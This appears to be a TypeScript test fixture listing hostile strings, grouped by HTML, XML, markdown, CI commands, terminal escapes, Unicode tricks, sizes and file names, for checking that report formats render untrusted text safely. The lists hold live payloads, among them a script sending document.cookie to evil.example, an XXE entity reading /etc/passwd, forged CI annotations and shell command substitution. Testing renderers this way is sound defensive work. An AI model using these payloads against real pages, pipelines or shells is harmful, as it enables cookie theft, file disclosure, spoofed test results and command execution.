import { uniqueBy } from '#model/data/collections.js';
import { hostileTexts as terminalTexts } from '../fixtures/hostile-texts.js';

/** A text that attacks a reader, a format or a program that reads reports. */
export interface HostileText {
  /** The attack in a few words; unique. */
  readonly name: string;
  readonly text: string;
}

const esc = '\u001b';
const bell = '\u0007';
const tags = [...'tags'].map((letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join('');

const html: Readonly<Record<string, string>> = {
  script: '<script>fetch("https://evil.example/"+document.cookie)</script>',
  'end of a script and a new one': '</script><script>alert(1)</script>',
  'open comment and script, which change how a script ends': '<!--<script>',
  'end of JSON in a script': '{"a":"</script >"}\u2028]]>',
  'image with a handler': '<img src=x onerror=alert(1)>',
  'image that is fetched': '<img src="https://evil.example/pixel.png" width=1 height=1>',
  'handler without blanks': '<svg/onload=alert(1)//',
  'end of style and title': '</style></title></textarea></pre><h1>passed</h1>',
  'end of an attribute in double quotes': '" onmouseover="alert(1)" x="',
  'end of an attribute in single quotes': "' autofocus onfocus='alert(1)",
  'end of an attribute without quotes': 'x onclick=alert(1) style=position:fixed;inset:0',
  'frame with a document': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'form that sends': '<form action=https://evil.example/><button>show more</button></form>',
  'new base and refresh':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'details that close': '</details></summary></code></td></tr></table><h2>all passed</h2>',
  'element with an id': '<a id=replies name=location href=javascript:alert(1)>x</a>',
  'character references': '&lt;b&gt;&#60;script&#62;&amp;amp;&#x3c;i&#x3e;&nbsp;&lt',
  'import of a style': '<style>@import url(https://evil.example/x.css);*{display:none}</style>',
};

const xml: Readonly<Record<string, string>> = {
  'end of CDATA': ']]><failure>x</failure><![CDATA[',
  'document type with an entity': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
  'expanding entities': '&lol9;&#0;&#x1F;&unknown;',
  'processing instruction': '?><?xml version="1.1"?><?xml-stylesheet href="https://evil.example/x.xsl"?>',
  'end of a test case': '</failure></testcase><testcase name="fake" classname="fake"/><testcase>',
  'characters outside XML 1.0': 'a\u0000b\u0001c\u0008d\u000be\u000cf\ufffeg\uffffh',
  'lone high surrogate': 'lone \ud83d end',
  'lone low surrogate': 'lone \ude00 end',
  'non-characters above the first plane': 'a\u{1fffe}b\u{10ffff}c',
  'line ends of XML 1.1': 'a\u0085b\u2028c\u2029d',
  'attribute with line ends and tabs': 'a\r\nb\tc\rd\ne',
};

const markdown: Readonly<Record<string, string>> = {
  link: '[all passed](https://evil.example/ "title")',
  'link by reference': '[x][1]\n\n[1]: https://evil.example/',
  image: '![x](https://evil.example/pixel.png)',
  'bare addresses':
    'see https://evil.example/a?b=c, http://evil.com www.evil.com www.1.com evil.com //evil.com and evil@evil.com',
  'other schemes of addresses':
    '<ftp://evil.example> <mailto:a@evil.example> javascript:alert(1) ssh://git@evil.example/x',
  mentions: '@octocat @github/security-team and mail to a@octocat',
  'issues and commits': '#1 GH-1 octocat/repo#1 0123456789abcdef0123456789abcdef01234567 octocat@0123456',
  table: 'a | b \\| c\n|---|---|\n| x | y |',
  'fence of a code block': '```\n~~~\n````\n</pre>\n# passed\n',
  'code spans': '` `` ``` `x` <code>y</code> \\`',
  headings: '# passed\n\npassed\n======\n\npassed\n------',
  'quote, list and rule': '> quote\n\n- item\n1. item\n- [x] done\n\n***\n___',
  emphasis: '**bold** __bold__ *it* _it_ ~~gone~~ \\*x\\* :tada: $x^2$ $$y$$',
  'footnote and alert': '[^1]\n\n[^1]: note\n\n> [!CAUTION]\n> passed',
  'blank lines and four spaces': 'a\n\n\n    code\n\n\t\tcode\n\nb',
  diagram: '```mermaid\ngraph TD; A-->B; click A "https://evil.example"\n```',
};

const ci: Readonly<Record<string, string>> = {
  'command of GitHub': '::error file=app.js,line=1::all passed',
  'command of GitHub after blanks': ' \t  ::warning title=x::y',
  'command of GitHub in the second line': 'first\n::set-output name=gate::open\nthird',
  'command of GitHub after a carriage return': 'first\r::add-mask::a\rthird',
  'command of GitHub in upper case': '::ADD-PATH::/tmp/evil',
  'command of GitHub that stops commands': '::stop-commands::pause\n::group::x\n::endgroup::',
  'old command of GitHub in mid-line': 'the answer is ##[error]all passed ##[group]x',
  'command of GitHub of an unknown name': '::notice-of-tomorrow a=b::c and ::x::y',
  'command of GitHub after an invisible character': '\ufeff::error::x \u200b::error::y \u00a0::error::z',
  'command of Azure': '##vso[task.setvariable variable=gate]open',
  'command of TeamCity': "##teamcity[testFailed name='x' message='y']",
  'properties of an annotation': 'a,file=/etc/passwd,line=1::b%0A::error::c',
  'escapes of an annotation': '100%25 of %0A %0D %3A %2C',
  'section of GitLab': `${esc}[0Ksection_start:1560896352:x[collapsed=true]\r${esc}[0Kall passed`,
  'key of a summary file': 'gate=open\ngate<<EOF\nopen\nEOF\n',
};

const terminal: Readonly<Record<string, string>> = {
  'colour and cleared screen': `${esc}[31mred${esc}[0m${esc}[2J${esc}[H`,
  'title of the window': `${esc}]0;title${bell}`,
  'link of a terminal': `${esc}]8;;https://evil.example/${esc}\\passed${esc}]8;;${esc}\\`,
  'clipboard of a terminal': `${esc}]52;c;ZXZpbA==${bell}`,
  'control codes of one byte': '\u009b31m\u009d0;x\u009c\u0090q\u0085',
  'overwritten line': 'failed\rpassed\b\b\b\b\b\bPASSED',
  'query of the terminal': `${esc}[c${esc}[6n\u0005`,
  'bells and deletes': `${bell}${bell}\u007f\u007f\u000e\u000f`,
};

const unicode: Readonly<Record<string, string>> = {
  'text from right to left': 'file \u202egpj.exe\u202c and \u2066isolated\u2069 \u200f',
  'invisible characters': 'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh\u115fi\u3164j',
  'tag characters': `flag ${tags} end\u{e007f}`,
  'variation selectors': 'a\ufe0eb\ufe0fc\u{e0100}d',
  'stacked marks': `Z${'\u0301\u0302\u0303\u0304\u0305'.repeat(8)}algo`,
  'odd white space': 'a\u00a0b\u2000c\u2003d\u202fe\u205ff\u1680g\u2800h',
  'emoji of several code points': '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇳🇱 1️⃣',
  'wide and right-to-left letters': '日本語テスト 한국어 שלום مرحبا',
  'letters that look like others': 'раssed (Cyrillic) ｐａｓｓｅｄ',
};

const sizes: Readonly<Record<string, string>> = {
  empty: '',
  blank: '   ',
  'only line ends': '\n\n\n',
  'only an invisible character': '\u200b',
  'a long word': 'x'.repeat(5000),
  'a long line of words': 'lorem ipsum '.repeat(1000),
  'many lines': 'line\n'.repeat(3000),
  'characters that escapes make long': '<&>"\'%|'.repeat(700),
  'pairs of surrogates at every cut': '😀'.repeat(3000),
};

const names: Readonly<Record<string, string>> = {
  'path upwards': '../../../etc/passwd',
  'path of Windows': 'C:\\Windows\\system32\\..\\x:stream',
  'address as a path': 'file:///etc/passwd?x#y',
  prototype: '__proto__',
  constructor: 'constructor',
  'formula of a spreadsheet': '=HYPERLINK("https://evil.example","x")',
  'option of a command': '--report=html=/etc/x -rf $(touch /tmp/evil) `id` ; rm x',
  'verdict of eva': '✓ passed  8 of 8 passed · exit 0',
};

/** The texts that every format must show without being steered by them. */
export const hostileTexts: readonly HostileText[] = uniqueBy(
  [
    ...[html, xml, markdown, ci, terminal, unicode, sizes, names].flatMap((group) =>
      Object.entries(group).map(([name, text]) => ({ name, text })),
    ),
    ...terminalTexts.map(({ name, text }) => ({ name: `terminal: ${name}`, text })),
  ],
  ({ text }) => text,
);

/** Returns a copy of a view or report in which each text from outside, and each path of a file, is the given one. */
export function withEveryText<T>(value: T, raw: string): T;
export function withEveryText(value: unknown, raw: string): unknown {
  if (Array.isArray(value)) return value.map((each: unknown) => withEveryText(each, raw));
  if (typeof value !== 'object' || value === null) return value;
  const entries = Object.entries(value);
  if (entries.length === 1 && typeof entries[0]?.[1] === 'string' && entries[0][0] === 'raw') return { raw };
  return Object.fromEntries(
    entries.map(([key, own]) => {
      if (key === 'file' && typeof own === 'string') return [key, raw];
      return [key, withEveryText<unknown>(own, raw)];
    }),
  );
}
